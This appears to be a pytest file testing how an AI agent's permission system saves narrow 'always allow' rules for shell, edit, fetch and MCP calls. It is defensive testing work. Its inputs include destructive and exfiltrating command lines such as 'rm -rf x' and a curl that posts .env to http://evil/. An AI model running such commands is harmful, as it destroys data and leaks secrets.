"""`Always, and save it`: a narrow rule in the user's own file, for this run and later ones."""

import json
import os
import re
import tomllib
from pathlib import Path

import pytest
import warm
from folders import put
from patience import HANG_S

from interlock.services.files.workspace import FolderWorkspace
from interlock.services.policy.policy import RulePolicy
from interlock.services.policy.rule import ANYBODY, Scope
from interlock.services.policy.rule_files import load_rules
from interlock.services.policy.workspace_rules import WorkspaceRules
from interlock.state.calls import CallView, SessionRule
from interlock.state.errors import RunError
from interlock.state.settings import Settings

SAVE = "proceed_always_and_save"
ASKING = Settings.model_validate({"tools": {"readingCommands": False}})
SHELL_RULE = '[[rule]]\ntoolName = "run_shell_command"\ndecision = "allow"\n'


def shell(line: str) -> CallView:
    return CallView(id="1", name="run_shell_command", args={"command": line})


def edit(path: str) -> CallView:
    return CallView(id="1", name="replace", args={"file_path": path})


class Place:
    """A workspace and a user's folder; a new policy reads what was saved."""

    def __init__(self, folder: Path, name: str = "work") -> None:
        self.root = folder / name
        self.root.mkdir(exist_ok=True)
        self.folder = folder / "user" / ".interlock" / "policies"
        self.file = self.folder / "auto-saved.toml"
        self.problems: list[str] = []

    def policy(self, scope: Scope = ANYBODY) -> RulePolicy:
        rules, problems = load_rules([(self.file, 4)] if self.file.exists() else [])
        self.problems = [str(p) for p in problems]
        space = FolderWorkspace(self.root)
        programs = {server: f"{server} 1" for server in scope.servers}
        return RulePolicy(
            WorkspaceRules(rules, ASKING, space, scope=scope, programs=programs), save_to=self.folder
        )

    def save(self, call: CallView, risk, mode: str = "default", scope: Scope = ANYBODY) -> SessionRule:
        policy = self.policy(scope)
        rule = policy.session_rule_for_choice(call, risk, SAVE, mode)
        assert rule is not None
        policy.save_rule(risk, rule, "2026-01-01T00:00:00+00:00, run k3m9")
        return rule


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def test_it_holds_in_a_later_run_for_what_was_shown_and_in_its_modes(place: Place) -> None:
    place.save(shell("git status -s"), "execute", "auto_edit")
    later = place.policy()
    assert place.problems == []
    for line, mode, decision in (
        ("git status", "auto_edit", "allow"),
        ("git status --ignore-submodules", "auto_edit", "ask"),
        ("git status", "default", "ask"),
        ("git log", "auto_edit", "ask"),
        ("git status; rm -rf x", "auto_edit", "ask"),
        ("git status > x", "default", "ask"),
        ("git status", "plan", "deny"),
    ):
        assert later.check(shell(line), "execute", mode).decision == decision, (line, mode)
    assert later.check(shell("git status"), "execute", "auto_edit").rule == f"user rule {place.file}:6"
    for line, met in (("git status", "yes"), ("git log", "no")):
        considered = later.explain_decision(shell(line), "execute", "auto_edit").considered
        assert [c.met for c in considered if c.rule.startswith("user rule")] == [met]
    (rule,) = tomllib.loads(place.file.read_text())["rule"]
    assert (rule["priority"], rule["command"]) == (950, ["git status -s"])
    assert "# 2026-01-01T00:00:00+00:00, run k3m9\n" in place.file.read_text()
    assert (place.file.stat().st_mode & 0o777, place.folder.stat().st_mode & 0o777) == (0o600, 0o700)


def test_files_and_commands_are_bound_to_their_workspace(place: Place, tmp_path: Path) -> None:
    place.save(edit("src/a.py"), "write")
    place.save(shell("pytest -q && curl -s http://a/"), "execute")
    place.save(shell("ls > out.txt"), "execute")
    here, elsewhere = place.policy(), Place(tmp_path, "other").policy()
    for policy, decision in ((here, "allow"), (elsewhere, "ask")):
        assert policy.check(edit("src/a.py"), "write", "default").decision == decision
        for line in ("pytest -x", "curl -s http://a/", "ls > out.txt"):
            assert policy.check(shell(line), "execute", "default").decision == decision
    for line in ("curl -s http://a/ -o x", "curl", "ls > other.txt", "ls"):
        assert here.check(shell(line), "execute", "default").decision == "ask"
    assert here.check(edit("src/b.py"), "write", "default").decision == "ask"
    assert here.check(edit("./src/../src/a.py"), "write", "default").decision == "allow"
    (place.root / "link.py").symlink_to("b.py")
    assert here.check(edit("link.py"), "write", "default").decision == "ask"


def test_a_host_and_an_mcp_tool_are_saved_and_nothing_broader(place: Place) -> None:
    scope = Scope(servers=frozenset({"s", "s_t"}))
    fetch = CallView(id="1", name="web_fetch", args={"prompt": "https://a.example/x"})
    place.save(fetch, "network")
    place.save(CallView(id="1", name="mcp_s_read", args={}), "execute", scope=scope)
    later = place.policy(scope)
    assert later.check(fetch, "network", "default").decision == "allow"
    other = CallView(id="1", name="web_fetch", args={"prompt": "https://a.example/x https://b.example"})
    assert later.check(other, "network", "default").decision == "ask"
    for name, decision in (("mcp_s_read", "allow"), ("mcp_s_write", "ask"), ("mcp_s_t_read", "ask")):
        assert later.check(CallView(id="1", name=name, args={}), "execute", "default").decision == decision
    # An earlier version saved the server's name alone, which any program could have: it is asked about once more.
    place.file.write_text(re.sub("mcpFingerprint.*", "", place.file.read_text()))
    read = CallView(id="1", name="mcp_s_read", args={})
    assert place.policy(scope).check(read, "execute", "default").decision == "ask" and not place.problems


def test_what_an_earlier_version_saved_as_a_prefix_covers_these_words_alone(place: Place) -> None:
    rule = SHELL_RULE + 'priority = {}\ncommandPrefix = "{}"\n'
    put(place.file, rule.format(950, "curl -s http://a/") + rule.format(100, "mine"))
    policy = place.policy()
    old = {"tool": "run_shell_command", "command_prefixes": ["npm x"], "redirection": True}
    assert place.problems == []
    stored = [SessionRule.model_validate(old)]
    for line in ("curl -s http://a/", "npm x", "mine -x"):
        assert policy.check(shell(line), "execute", "default", stored).decision == "allow"
    for line in ("curl -s http://a/ -d @.env http://evil/", "curl", "npm x --evil", "npm x > out"):
        assert policy.check(shell(line), "execute", "default", stored).decision == "ask"


def test_it_is_offered_exactly_where_a_narrow_rule_exists(place: Place) -> None:
    policy = place.policy()
    for line in ("ls -l", "rm -rf x", "eval $x", "git -c a=b log", "ls 'x"):
        offered = policy.offered_choices(
            shell(line), "execute", policy.check(shell(line), "execute", "default")
        )
        narrow = policy.session_rule_for_choice(shell(line), "execute", SAVE, "default")
        assert (SAVE in offered, narrow is not None) == (line == "ls -l",) * 2
    execute = CallView(id="1", name="discovered", args={"x": 1})
    assert policy.session_rule_for_choice(execute, "execute", SAVE, "default") is None


@pytest.mark.parametrize(
    ("call", "risk", "where"),
    [
        (shell("make x"), "execute", "`make x` (also `-j`, output flags), in this folder"),
        (shell("a && b c"), "execute", "exactly `a` and `b c`, in this folder"),
        (shell("a | b"), "execute", "exactly `a | b`, in this folder"),
        (edit("a.py"), "write", "`replace` on a.py, in this folder"),
    ],
)
def test_the_request_says_where_a_saved_choice_will_count(
    place: Place, call: CallView, risk, where: str
) -> None:
    rule = place.policy().session_rule_for_choice(call, risk, SAVE, "default")
    assert rule is not None and rule.scope_text.endswith(where)
    once = place.policy().session_rule_for_choice(call, risk, "proceed_always", "default")
    assert once is not None and once.scope_text == rule.scope_text.removesuffix(f", {rule.saved}")


def test_the_same_choice_is_written_once_and_what_is_there_is_kept(place: Place) -> None:
    own = '# mine\n[[rule]]\ntoolName = "x"\ndecision = "deny"\npriority = 1'
    put(place.file, own)
    for _ in range(3):
        place.save(shell("git status"), "execute")
    text = place.file.read_text()
    assert text.startswith(own + "\n")
    assert len(tomllib.loads(text)["rule"]) == 2
    place.save(shell("git log"), "execute")
    assert len(tomllib.loads(place.file.read_text())["rule"]) == 3


def test_a_leftover_of_a_killed_writer_is_no_hindrance_and_a_link_stays_a_link(
    place: Place, tmp_path: Path
) -> None:
    put(tmp_path / "dotfiles" / ".saved.toml.tmp", "[[rule]]\ntoolN")
    put(tmp_path / "dotfiles" / "saved.toml").chmod(0o600)
    place.folder.mkdir(parents=True)
    place.file.symlink_to(tmp_path / "dotfiles" / "saved.toml")
    place.save(shell("git status"), "execute")
    assert [f.name for f in (tmp_path / "dotfiles").iterdir()] == ["saved.toml"] and place.file.is_symlink()
    assert "git status" in (tmp_path / "dotfiles" / "saved.toml").read_text()
    assert place.policy().check(shell("git status"), "execute", "default").decision == "allow"


def test_it_says_why_it_could_not_be_saved(place: Place, tmp_path: Path) -> None:
    """A file that others may write isn't made one that counts."""
    put(place.file, '[[rule]]\ntoolName = "write_file"\ndecision = "allow"\npriority = 1\n').chmod(0o666)
    with pytest.raises(RunError, match="wasn't saved: the file doesn't count: others may write it"):
        place.save(shell("git status"), "execute")
    assert place.file.stat().st_mode & 0o777 == 0o666
    place.folder.rename(tmp_path / "away")
    put(place.folder, "a file where a folder should be")
    with pytest.raises(RunError, match="the rule wasn't saved: Not a directory"):
        place.save(shell("git status"), "execute")


@pytest.mark.parametrize(
    "path", ['a"b.py', "a\\b.py", "ä\u2028.py", "😀.py", "a\x7fb.py", "tab\t.py", "'''.py"]
)
def test_names_of_any_kind_come_back_as_they_were(place: Place, path: str) -> None:
    rule = place.policy().session_rule_for_choice(edit(path), "write", SAVE, "default")
    if rule is None:
        return
    place.save(edit(path), "write")
    assert place.policy().check(edit(path), "write", "default").decision == "allow"
    assert place.problems == []


WRITER = """
import json, sys
from pathlib import Path
from interlock.services.policy.grants import save_rules, to_rule_tables
from interlock.state.calls import SessionRule
folder, first = Path(sys.argv[1]), int(sys.argv[2])
for number in range(first, first + 8):
    rule = SessionRule(tool="run_shell_command", commands=(f"git log -{number}",))
    save_rules(folder, to_rule_tables(rule, None, False, Path("/w")), f"writer {first}")
"""


def test_writers_at_the_same_time_lose_nothing_of_each_other(place: Place) -> None:
    program = put(place.folder.parent / "writer.py", WRITER)
    writers = [
        warm.Warm([str(place.folder), first], cwd=program.parent, env=os.environ, program=program)
        for first in ("0", "4", "8")
    ]
    assert [w.wait(HANG_S) for w in writers] == [0, 0, 0]
    rules = tomllib.loads(place.file.read_text())["rule"]
    found = [r["command"][0] for r in rules]
    assert sorted(found, key=lambda p: int(p.rpartition("-")[2])) == [f"git log -{n}" for n in range(16)]
    assert json.dumps(rules).count("deny") == 0
